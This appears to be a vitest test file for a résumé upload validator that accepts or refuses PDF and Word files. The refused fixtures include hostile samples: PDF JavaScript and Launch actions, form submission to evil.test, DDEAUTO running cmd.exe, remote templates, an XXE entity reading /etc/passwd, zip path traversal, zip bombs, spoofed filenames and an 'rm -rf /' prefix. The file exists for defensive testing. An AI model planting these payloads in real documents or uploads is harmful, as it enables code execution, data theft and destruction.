import { expect, test } from 'vitest'
import { resumeFileSchema } from '#contract/resumes.schema.ts'
import { type ResumeRefusal, type ResumeType, resumeBytes, resumeMessages, resumeRefusals } from '#contract/resumes.ts'
import { refusalOf } from './resume-check.ts'
import { macroTypes, makeDocx, makePdf, makeZip, packedObjects, sheetTypes } from './test-resumes.ts'

const relation = (type: string, target: string, mode = 'External') => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
})
const zeros = Buffer.alloc(8 * 1024 * 1024)
const text = (words: string) => Buffer.from(words)

test.each<[what: string, type: ResumeType, bytes: Buffer]>([
  ['a PDF', 'pdf', makePdf()],
  ['a PDF 2.0', 'pdf', makePdf({ header: '%PDF-2.0' })],
  ['a PDF that opens at its first page', 'pdf', makePdf({ trailer: '/OpenAction [3 0 R /Fit]' })],
  ['a PDF with links', 'pdf', makePdf({ objects: ['5 0 obj << /S /URI /URI (https://me.test) >> endobj'] })],
  [
    'a PDF by somebody who knows JavaScript',
    'pdf',
    makePdf({ objects: ['6 0 obj << /Keywords (HTML/JavaScript, /Launch) >> endobj'] }),
  ],
  ['a PDF with packed objects', 'pdf', makePdf({ objects: [packedObjects('8 0 << /Type /Font >>')] })],
  ['a PDF with zeros behind its end', 'pdf', makePdf({ end: '%%EOF\r\n\0\0' })],
  ['a Word document', 'docx', makeDocx()],
  ['a Word document with links', 'docx', makeDocx({ more: [relation('hyperlink', 'https://me.test')] })],
  [
    'a Word document with a picture',
    'docx',
    makeDocx({ more: [{ name: 'word/media/image1.png', content: text('\x89PNG'), method: 0 }] }),
  ],
  [
    'a Word document that speaks of DDE and macros',
    'docx',
    makeDocx({ body: '<w:t>DDE "x", vbaProject, INCLUDETEXT</w:t>' }),
  ],
])('%s may be kept', async (_, type, bytes) => {
  expect(await refusalOf(bytes, type)).toBeUndefined()
})

const action = (type: string) => `5 0 obj << /Type /Action ${type} >> endobj`
const hostile: [what: string, type: ResumeType, bytes: Buffer, refusal: ResumeRefusal][] = [
  ['a program', 'pdf', text('MZ\x90\0This program cannot be run'), 'notPdf'],
  ['a web page', 'pdf', text('<html><script>alert(1)</script></html>'), 'notPdf'],
  ['a drawing with a script', 'pdf', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'notPdf'],
  ['a picture', 'pdf', Buffer.from('ffd8ffe000104a464946', 'hex'), 'notPdf'],
  ['PostScript', 'pdf', text('%!PS-Adobe-3.0\n%%EOF'), 'notPdf'],
  ['a PDF behind other bytes', 'pdf', Buffer.concat([text('GIF89a'), makePdf()]), 'notPdf'],
  ['a PDF behind a shell script', 'pdf', Buffer.concat([text('#!/bin/sh\nrm -rf /\n'), makePdf()]), 'notPdf'],
  ['a Word document called PDF', 'pdf', makeDocx(), 'notPdf'],
  ['a PDF cut off', 'pdf', makePdf().subarray(0, 200), 'pdfCut'],
  ['a PDF with a program behind it', 'pdf', makePdf({ end: '%%EOF\nMZ\x90' }), 'pdfCut'],
  [
    'a PDF with an archive behind it',
    'pdf',
    Buffer.concat([makePdf(), makeZip([{ name: 'a', content: 'b' }])]),
    'pdfCut',
  ],
  [
    'a PDF that is an archive as well',
    'pdf',
    makePdf({ objects: [withComment(makeZip([{ name: 'a.exe', content: 'MZ' }]), 300)] }),
    'twoFormats',
  ],
  [
    'a PDF that is a web page as well',
    'pdf',
    makePdf({ header: '%PDF-1.7\n%<script>alert(1)</script>' }),
    'twoFormats',
  ],
  ['a PDF with a password', 'pdf', makePdf({ trailer: '/Encrypt 9 0 R' }), 'pdfPassword'],
  ['a PDF with a password in place', 'pdf', makePdf({ trailer: '/Encrypt<< /Filter /Standard >>' }), 'pdfPassword'],
  ['a PDF with a script', 'pdf', makePdf({ objects: [action('/S /JavaScript /JS (app.alert(1))')] }), 'pdfActive'],
  [
    'a PDF with a script, written in numbers',
    'pdf',
    makePdf({ objects: [action('/S /J#61v#61Script /JS (1)')] }),
    'pdfActive',
  ],
  [
    'a PDF with a script behind a comment',
    'pdf',
    makePdf({ objects: [action('/S%x\n/JavaScript /JS (1)')] }),
    'pdfActive',
  ],
  ['a PDF with a script behind a zero', 'pdf', makePdf({ objects: [action('/S\0/JavaScript /JS (1)')] }), 'pdfActive'],
  [
    'a PDF with its script elsewhere',
    'pdf',
    makePdf({ objects: [action('/S 7 0 R'), '7 0 obj /JavaScript endobj'] }),
    'pdfActive',
  ],
  [
    'a PDF with named scripts',
    'pdf',
    makePdf({ objects: ['6 0 obj << /Names << /JavaScript 7 0 R >> >> endobj'] }),
    'pdfActive',
  ],
  [
    'a PDF with a packed script',
    'pdf',
    makePdf({ objects: [packedObjects('8 0 << /S /JavaScript /JS (1) >>')] }),
    'pdfActive',
  ],
  ['a PDF that starts a program', 'pdf', makePdf({ objects: [action('/S /Launch /F (cmd.exe)')] }), 'pdfActive'],
  [
    'a PDF that sends a form',
    'pdf',
    makePdf({ objects: [action('/S /SubmitForm /F (https://evil.test)')] }),
    'pdfActive',
  ],
  [
    'a PDF that fetches another',
    'pdf',
    makePdf({ objects: [action('/S /GoToR /F (\\\\\\\\evil.test\\\\x)')] }),
    'pdfActive',
  ],
  ['a PDF with a film', 'pdf', makePdf({ objects: ['6 0 obj << /Subtype /RichMedia >> endobj'] }), 'pdfActive'],
  [
    'a PDF with an XFA form',
    'pdf',
    makePdf({ objects: ['6 0 obj << /AcroForm << /XFA [ (x) 7 0 R ] >> >> endobj'] }),
    'pdfActive',
  ],
  [
    'a PDF with files inside',
    'pdf',
    makePdf({ objects: ['6 0 obj << /Names << /EmbeddedFiles 7 0 R >> >> endobj'] }),
    'pdfAttachments',
  ],
  [
    'a PDF with a file as a note',
    'pdf',
    makePdf({ objects: ['6 0 obj << /Subtype /FileAttachment >> endobj'] }),
    'pdfAttachments',
  ],
  [
    'a PDF with packed files',
    'pdf',
    makePdf({ objects: [packedObjects('8 0 << /Type /EmbeddedFile >>')] }),
    'pdfAttachments',
  ],
  [
    'a PDF packed twice',
    'pdf',
    makePdf({ objects: [packedObjects('8 0 << >>', { dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]' })] }),
    'pdfUnusual',
  ],
  [
    'a PDF with a predictor',
    'pdf',
    makePdf({
      objects: [packedObjects('8 0 << >>', { dictionary: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>' })],
    }),
    'pdfUnusual',
  ],
  [
    'a PDF with damaged objects',
    'pdf',
    makePdf({ objects: [packedObjects('8 0 << >>', { pack: (bytes) => bytes as never })] }),
    'pdfUnusual',
  ],
  [
    'a PDF that unpacks to hundreds of megabytes',
    'pdf',
    makePdf({ objects: Array.from({ length: 8 }, () => packedObjects(zeros.toString('latin1'))) }),
    'pdfUnusual',
  ],

  ['an older Word file', 'docx', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'oldWord'],
  ['a PDF called Word', 'docx', makePdf(), 'notDocx'],
  ['a program called Word', 'docx', text('MZ\x90\0'), 'notDocx'],
  ['nearly nothing', 'docx', text('PK'), 'notDocx'],
  ['an archive', 'docx', makeZip([{ name: 'holiday.jpg', content: 'x' }]), 'notDocx'],
  ['a Java program', 'docx', makeZip([{ name: 'META-INF/MANIFEST.MF', content: 'x' }]), 'notDocx'],
  ['a spreadsheet', 'docx', makeDocx({ types: sheetTypes }), 'notDocx'],
  ['a Word document cut off', 'docx', makeDocx().subarray(0, 120), 'docxDamaged'],
  ['a Word document with something behind it', 'docx', makeDocx({ after: text('MZ and more') }), 'docxDamaged'],
  [
    'a Word document with something hidden inside',
    'docx',
    makeDocx({ between: Buffer.alloc(4096, 'MZ') }),
    'docxUnusual',
  ],
  [
    'a Word document that is a PDF as well',
    'docx',
    makeZip([{ name: 'a', content: makePdf(), method: 0 }]),
    'twoFormats',
  ],
  [
    'a Word document with a password',
    'docx',
    makeDocx({ more: [{ name: 'word/a.xml', content: 'x', flags: 1 }] }),
    'docxPassword',
  ],
  ['a Word document with macros', 'docx', makeDocx({ types: macroTypes }), 'docxMacros'],
  [
    'a Word document with a macro project',
    'docx',
    makeDocx({ more: [{ name: 'word/vbaProject.bin', content: 'x' }] }),
    'docxMacros',
  ],
  [
    'a Word document with controls',
    'docx',
    makeDocx({ more: [{ name: 'word/activeX/activeX1.xml', content: '<x/>' }] }),
    'docxMacros',
  ],
  [
    'a Word document with a file inside',
    'docx',
    makeDocx({ more: [{ name: 'word/embeddings/oleObject1.bin', content: 'x' }] }),
    'docxEmbedded',
  ],
  [
    'a Word document with a program as a picture',
    'docx',
    makeDocx({ more: [{ name: 'word/media/image1.png', content: 'MZ\x90' }] }),
    'docxEmbedded',
  ],
  [
    'a Word document with an archive as a picture',
    'docx',
    makeDocx({ more: [{ name: 'word/media/image1.png', content: makeDocx() }] }),
    'docxEmbedded',
  ],
  [
    'a template from elsewhere',
    'docx',
    makeDocx({ more: [relation('attachedTemplate', 'https://evil.test/t.dotm')] }),
    'docxOutside',
  ],
  [
    'a picture from elsewhere',
    'docx',
    makeDocx({ more: [relation('image', 'https://evil.test/pixel.png')] }),
    'docxOutside',
  ],
  [
    'an object from elsewhere',
    'docx',
    makeDocx({ more: [relation('oleObject', 'mhtml:https://evil.test!x')] }),
    'docxOutside',
  ],
  [
    'a picture from elsewhere, in UTF-16',
    'docx',
    makeDocx({
      more: [
        { ...relation('image', ''), content: Buffer.from(relation('image', 'https://evil.test').content, 'utf16le') },
      ],
    }),
    'docxOutside',
  ],
  [
    'a field that starts a program',
    'docx',
    makeDocx({ body: '<w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText>' }),
    'docxOutside',
  ],
  [
    'a field that fetches a file',
    'docx',
    makeDocx({ body: '<w:fldSimple w:instr=" INCLUDETEXT \\\\evil.test\\x"/>' }),
    'docxOutside',
  ],
  [
    'a bomb',
    'docx',
    makeDocx({ more: Array.from({ length: 8 }, (_, at) => ({ name: `word/media/${at}.bmp`, content: zeros })) }),
    'docxHuge',
  ],
  [
    'a bomb that lies about its size',
    'docx',
    makeDocx({ more: [{ name: 'word/media/1.bmp', content: zeros, size: 100 }] }),
    'docxUnusual',
  ],
  [
    'too many parts',
    'docx',
    makeDocx({ more: Array.from({ length: 2_100 }, (_, at) => ({ name: `word/${at}.xml`, content: '' })) }),
    'docxHuge',
  ],
  [
    'a path out of the archive',
    'docx',
    makeDocx({ more: [{ name: '../../etc/cron.d/x', content: 'x' }] }),
    'docxUnusual',
  ],
  ['a path from the root', 'docx', makeDocx({ more: [{ name: '/etc/passwd', content: 'x' }] }), 'docxUnusual'],
  ['a path of Windows', 'docx', makeDocx({ more: [{ name: 'C:\\Windows\\x.dll', content: 'x' }] }), 'docxUnusual'],
  [
    'two parts of one name',
    'docx',
    makeDocx({ more: [{ name: 'word/document.xml', content: '<x/>' }] }),
    'docxUnusual',
  ],
  [
    'a part with two names',
    'docx',
    makeDocx({ more: [{ name: 'word/a.xml', localName: 'word/vbaProject.bin', content: '<x/>' }] }),
    'docxUnusual',
  ],
  [
    'a rare way of packing',
    'docx',
    makeDocx({ more: [{ name: 'word/a.xml', content: 'x', method: 14 }] }),
    'docxUnusual',
  ],
  [
    'entities',
    'docx',
    makeDocx({
      more: [{ name: 'word/a.xml', content: '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }],
    }),
    'docxUnusual',
  ],
]

/** So long a comment that the archive seems to reach to the end of the file it stands in. */
function withComment(zip: Buffer, length: number): Buffer {
  zip.writeUInt16LE(length, zip.length - 2)
  return Buffer.concat([zip, Buffer.alloc(length, ' ')])
}

test.each(hostile)('%s (%s) is refused', async (_, type, bytes, refusal) => {
  expect(await refusalOf(bytes, type)).toBe(refusal)
})

test('there are more than forty of them, and each has a sentence that says what to do', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(40)
  expect(new Set(hostile.map(([, , , refusal]) => refusal))).toEqual(new Set(Object.keys(resumeRefusals)))
  for (const sentence of Object.values(resumeRefusals)) expect(sentence).toMatch(/ Please .+\.$/)
})

test.each([
  ['cv.pdf', undefined],
  ['Ana María, résumé (2026).PDF', undefined],
  ['履歴書.docx', undefined],
  ['cv.doc', resumeMessages.type],
  ['cv.docm', resumeMessages.type],
  ['cv.pdf.exe', resumeMessages.type],
  ['cv', resumeMessages.type],
  ['', resumeMessages.type],
  ['../../etc/cv.pdf', resumeMessages.name],
  ['C:\\cv.pdf', resumeMessages.name],
  ['a/b.pdf', resumeMessages.name],
  ['.cv.pdf', resumeMessages.name],
  ['cv\u202efdp.exe.pdf', resumeMessages.name],
  ['cv.exe.pdf', resumeMessages.name],
  ['cv\u200b.pdf', resumeMessages.name],
  ['"><script>.pdf', resumeMessages.name],
])('a file called %j', (name, message) => {
  const { error } = resumeFileSchema.safeParse({ name, size: 1 })
  expect(error?.issues[0]?.message).toBe(message)
})

test('a file has something in it, and at most five megabytes', () => {
  const messageFor = (size: number) => resumeFileSchema.safeParse({ name: 'cv.pdf', size }).error?.issues[0]?.message
  expect(messageFor(0)).toBe(resumeMessages.empty)
  expect(messageFor(resumeBytes)).toBeUndefined()
  expect(messageFor(resumeBytes + 1)).toBe(resumeMessages.tooLarge)
})

test('five megabytes are looked through in less than half a second', async () => {
  const page = Buffer.concat([
    text('7 0 obj << /Length 1 >> stream\n'),
    Buffer.alloc(resumeBytes - 600, '/S ( '),
    text('\nendstream endobj'),
  ])
  const started = process.threadCpuUsage()
  expect(await refusalOf(makePdf({ objects: [page] }), 'pdf')).toBeUndefined()
  expect(process.threadCpuUsage(started).user).toBeLessThan(500_000)
})
